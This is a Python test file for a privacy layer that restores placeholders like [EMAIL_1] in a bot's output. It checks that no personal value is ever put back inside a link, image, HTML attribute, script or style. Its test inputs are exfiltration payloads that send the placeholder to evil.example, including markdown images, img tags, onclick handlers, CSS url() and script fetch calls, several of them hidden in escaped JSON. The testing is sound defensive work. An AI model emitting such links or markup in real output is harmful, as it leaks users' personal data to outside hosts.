"""In text that is shown, nothing personal is restored where a browser would fetch, follow or run it."""

from __future__ import annotations

import re
from functools import partial
from html.parser import HTMLParser

import pytest
from cutting import assert_cutting_changes_nothing, restored
from hypothesis import assume, given
from hypothesis import strategies as st

from explainbot.privacy import Edit, Vault
from explainbot.privacy.markup import Places

VAULT = Vault()
VAULT.placeholder_for("jane@canary.example", "EMAIL_ADDRESS")
VAULT.placeholder_for("Canary Jane", "PERSON")
VAULT.placeholder_for("https://u:p@canary.example/?q=", "URL")
VAULT.placeholder_for("![x](//canary.example/", "CUSTOMER_DATA")

shown = partial(restored, VAULT)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=[EMAIL_1])",
        "![x](https://evil.example/?q=EMAIL_1)",
        "[click](https://evil.example/[EMAIL_1]/a)",
        "[click](/relative?q=[EMAIL_1])",
        "[click]( <//evil.example/?q=[EMAIL_1]> )",
        "[click](\nevil?q=[EMAIL_1])",
        "[click](a(b)c\\)[EMAIL_1])",
        "![x][ref]\n\n[ref]: //evil.example/?q=[EMAIL_1]",
        "![x][ref]\n\n[ref]: evil?q=[EMAIL_1]",
        "<https://evil.example/?q=[EMAIL_1]>",
        "https://evil.example/?q=**[EMAIL_1]**",
        'https://evil.example/?q="[EMAIL_1]',
        "see www.evil.example/?q=[EMAIL_1]",
        "https://[EMAIL_1].evil.example/",
        "<img src='//evil.example/?q=[EMAIL_1]'>",
        '<img alt=">" src="/log?q=[EMAIL_1]">',
        "<a href=x onclick=send('[EMAIL_1]')>",
        "<!-- [EMAIL_1] -->",
        "<style>a{background:url(//evil.example/[EMAIL_1])}</style>",
        "[r]: x ![x](//evil.example/\\\n[EMAIL_1])",
        "[URL_1][EMAIL_1]",
        "[DATA_1][EMAIL_1])",
        # JSON that was not asked for, which the bot reads and shows what its strings say
        '{"link": "https:\\u002f\\u002Fevil.example/[EMAIL_1]"}',
        '{"link": "https:\\/\\/evil.example/[EMAIL_1]"}',
        '{"link": "/track?e=[EMAIL_1]"}',
        """{"link": "javascript:x='a b';f('[EMAIL_1]')"}""",
        '{"text": "\\u003cimg src=x?[EMAIL_1]"}',
        '```json\n{"text": "\\u003Cimg src=x?[EMAIL_1]\\u003e"}\n```',
        '```json\n{"text": "<img alt=\\">\\" src=x?[EMAIL_1]>"}\n```',
        'Here: {"text": "!\\u005bx\\u005D\\u0028evil?[EMAIL_1])"}',
        '{"inner": "{\\"link\\": \\"https:\\\\\\/\\\\\\/evil.example/[EMAIL_1]\\"}"}',
    ],
)
def test_nothing_is_restored_inside_a_target(text: str) -> None:
    result, restorer = shown(text)
    assert "jane@canary" not in result
    assert restorer.withheld == 1
    for cut in range(len(text)):
        assert shown(text, [cut])[0] == result


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Hi [PERSON_1], we wrote to [EMAIL_1].", "Hi Canary Jane, we wrote to jane@canary.example."),
        ("[PERSON_1]: done", "Canary Jane: done"),
        ('{"to": "[EMAIL_1]", "is": "1 \\u003c 2"}', '{"to": "jane@canary.example", "is": "1 \\u003c 2"}'),
        ("C:\\\\temp\\\\ is of [PERSON_1]", "C:\\\\temp\\\\ is of Canary Jane"),
        ('[1] Under "/me [EMAIL_1]"', '[1] Under "/me jane@canary.example"'),
        ("<[EMAIL_1]>", "<jane@canary.example>"),
        ("[[EMAIL_1]](https://shop.example/)", "[jane@canary.example](https://shop.example/)"),
        (
            "See https://shop.example/returns and write to [EMAIL_1]",
            "See https://shop.example/returns and write to jane@canary.example",
        ),
        ("[policy](https://shop.example/a_(b)) [EMAIL_1]", "[policy](https://shop.example/a_(b)) jane@canary.example"),
        ("<b>[PERSON_1]</b>", "<b>Canary Jane</b>"),
        ("1 < 2, [PERSON_1]", "1 < 2, Canary Jane"),
        ("| [PERSON_1] | [EMAIL_1] |", "| Canary Jane | jane@canary.example |"),
        ("[ref]: /x\n[EMAIL_1]", "[ref]: /x\njane@canary.example"),
        ("[a](\n\n[EMAIL_1]", "[a](\n\njane@canary.example"),
    ],
)
def test_ordinary_text_is_restored(text: str, expected: str) -> None:
    result, restorer = shown(text)
    assert result == expected
    assert restorer.withheld == 0


MARKS = ["[EMAIL_1]", "EMAIL_1", "[PERSON_1]", "[URL_1]", "[DATA_1]", "[EMAIL_9]", "http:", "//", "/",
         "www", ".", "](", "]:", "(", ")", "<", "a", ">",
         '"', "'", "\\", "\n", " ", "!", "[", "]", "x", "<img src=", "<!--", "-->", "://e.example/?q="]  # fmt: skip
marked = st.lists(st.sampled_from(MARKS), max_size=24).map("".join)


@given(marked, st.lists(st.integers(0, 150), max_size=6))
def test_cutting_changes_nothing(text: str, cuts: list[int]) -> None:
    assert_cutting_changes_nothing(VAULT, text, cuts)


class Attributes(HTMLParser):
    """Every attribute that an HTML parser sees."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen += [f"{name}={value}" for name, value in attrs]


@given(marked)
def test_no_restored_value_ends_up_in_a_url_or_an_attribute(text: str) -> None:
    assume("<![" not in text)  # Python's parser gives up on "<!["
    edits: list[Edit] = []
    result, _ = shown(text, edits=edits)
    parser = Attributes()
    parser.feed(result)
    assert not [item for item in parser.seen if "jane@canary" in item]
    for edit in edits:
        run = re.split(r"[ \t\n\v\f\r<>)]", result[: edit.out_start])[-1]
        assert "//" not in run
        assert "www." not in run


@given(marked)
def test_places_depend_on_the_text_alone(text: str) -> None:
    whole, cut = Places(), Places()
    whole.feed(text)
    for char in text:
        cut.feed(char)
    assert whole.inside == cut.inside


@pytest.mark.parametrize(
    "text",
    [
        "<script>fetch('/x?' + '[DATA_1]')</script>",
        "<STYLE type=x>p{background:url([DATA_1])}",
        "<[DATA_1]>",
        "<[DATA_1] onload=x>",
        "[r]: https://evil.example/<a href='//evil.example/?a=1\n&b=[DATA_1]'>",
        "[x](a<script>b) [DATA_1]",
        "<script>'<!--x'</script> <link href='<!-- -->'> [DATA_1]",
    ],
)
def test_scripts_styles_and_tags_that_go_on_hold_no_value(text: str) -> None:
    result, _ = shown(text)
    assert result == text
    assert shown(text, list(range(len(text))))[0] == text


def test_text_after_a_comment_is_restored_again() -> None:
    assert "[EMAIL_1]" not in shown("<!-- x --> <!doctype html> <b>x</b> [EMAIL_1]")[0]


def test_text_after_a_script_is_restored_again() -> None:
    result, _ = shown("<script>x</script> [DATA_1]")
    assert "[DATA_1]" not in result
